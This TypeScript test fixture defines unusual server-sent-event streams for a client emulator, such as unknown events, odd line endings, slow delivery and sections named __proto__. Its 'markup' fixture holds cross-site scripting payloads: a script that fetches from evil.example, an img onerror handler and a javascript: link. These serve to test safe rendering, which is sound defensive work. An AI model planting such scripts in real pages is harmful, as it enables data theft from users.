import { joinPieces } from '../content/pieces';
import type { Frame, StreamEnd, Style } from '../wire/answer';
import type { SectionPiece } from '../wire/api';
import type { StreamFault } from './fault';
import { heldFrames, normalFrames, splitAfter } from './frames';

/** A complete stream, whose frames, style or end is unusual. */
const healthy = (
	description: string,
	frames: (pieces: readonly SectionPiece[]) => Frame[],
	style?: Style,
	end?: StreamEnd,
): StreamFault => ({
	description,
	when: 'healthy',
	of: 'stream',
	answer: ({ pieces }) => ({ kind: 'stream', frames: frames(pieces), style, end }),
});

const styled = (description: string, style: Style) => healthy(description, normalFrames, style);

const withUnknownEvents = (pieces: readonly SectionPiece[]): Frame[] => [
	{ kind: 'bytes', bytes: 'retry: 3000\nid: 1\nflavour: none\n\n' },
	...normalFrames(pieces).flatMap((frame): Frame[] => [
		{ kind: 'event', data: '{"type":"usage","tokens":12}' },
		{ kind: 'event', event: 'trace', data: '{"step":"write"}' },
		frame.kind === 'section' ? { ...frame, extra: { index: 7, model: { name: 'x' } } } : frame,
	]),
];

const trickyNames: readonly SectionPiece[] = [
	{ section: '__proto__', content: 'A section like any other, ' },
	{ section: '__proto__', content: 'whatever its name.' },
	{ section: 'constructor', content: 'So is this one.' },
	{ section: 'toString', content: 'And this one.' },
];

const markup: readonly SectionPiece[] = [
	{ section: 'summary', content: '# Not a heading\n\nResearch & "development" <b>lead</b>' },
	{ section: 'summary', content: ' <script>fetch("https://evil.example/?c=1")</script>' },
	{ section: 'skills', content: '## Skills\n- <img src="https://evil.example/pixel.gif" ' },
	{ section: 'skills', content: "onerror='alert(1)'>\n- [a link](javascript:alert(1))" },
	{ section: 'a<b>&"c"', content: 'A name with markup in it; 5 < 6 && 7 > 6.' },
];

/** Complete streams that are unusual in some way. */
export const healthyStreams = {
	unknown_events: healthy('sends unknown events and fields in between', withUnknownEvents),
	unterminated: styled('ends right after done, without the blank line', { unterminated: true }),
	holds_open: healthy('leaves the connection open after done', normalFrames, {}, 'hold'),
	bom: styled('starts with a byte order mark', { byteOrderMark: true }),
	crlf: styled('ends its lines with CR LF', { lineEnd: '\r\n' }),
	cr: styled('ends its lines with CR alone', { lineEnd: '\r' }),
	comments: styled('sends comments between the events', { comments: true }),
	multi_data: styled('spreads the JSON of an event over several lines', { multiLine: true }),
	one_byte: styled('sends each byte separately', { byteByByte: true }),
	slow: healthy(
		'sends whole sections, 300 ms apart',
		(pieces) => normalFrames(joinPieces(pieces)),
		{
			pieceDelay: 300,
		},
	),
	hold: healthy('waits after the first piece until the emulator releases it', heldFrames),
	proto: healthy('names its sections __proto__, constructor and toString', () =>
		normalFrames(trickyNames),
	),
	markup: healthy('sends HTML, scripts, quotes and Markdown as content', () =>
		normalFrames(markup),
	),
	single: healthy('sends one section only', (pieces) => normalFrames(splitAfter(1, pieces)[0])),
} satisfies Record<string, StreamFault>;
